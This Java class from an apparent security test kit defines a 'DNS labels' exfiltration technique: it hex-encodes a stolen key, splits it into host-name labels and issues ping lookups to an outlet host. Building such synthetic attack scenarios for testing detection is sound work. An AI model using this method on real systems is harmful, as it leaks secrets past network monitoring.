package io.weir.testkit.technique.shape;

import io.weir.testkit.technique.Scene;
import io.weir.testkit.technique.Technique;
import java.util.List;
import java.util.Map;

/** The content is written into the labels of host names that are looked up. */
public final class DnsLabels implements Technique {

    @Override
    public int number() {
        return 15;
    }

    @Override
    public String name() {
        return "DNS labels";
    }

    private static final int LABEL_MAX = 60;

    private enum Form {
        ONE_NAME,
        SEVERAL_NAMES,
        SHORT_LABELS
    }

    @Override
    public void play(Scene scene) {
        Stolen stolen = Stolen.key(scene);
        scene.mentionsOutlet(scene.outlet().host());
        String hex = Packing.hex(stolen.carriedIn(scene));
        int part = 0;
        for (String labels : labels(scene.variant(List.of(Form.values())), hex)) {
            String host = labels + "." + part++ + "." + scene.outlet().host();
            scene.sends("ping", Map.of("host", host), "unknown host");
        }
    }

    private static List<String> labels(Form form, String hex) {
        return switch (form) {
            case ONE_NAME -> List.of(String.join(".", Slices.of(hex, LABEL_MAX)));
            case SEVERAL_NAMES -> Slices.of(hex, 48);
            case SHORT_LABELS -> Slices.of(hex, 24);
        };
    }
}
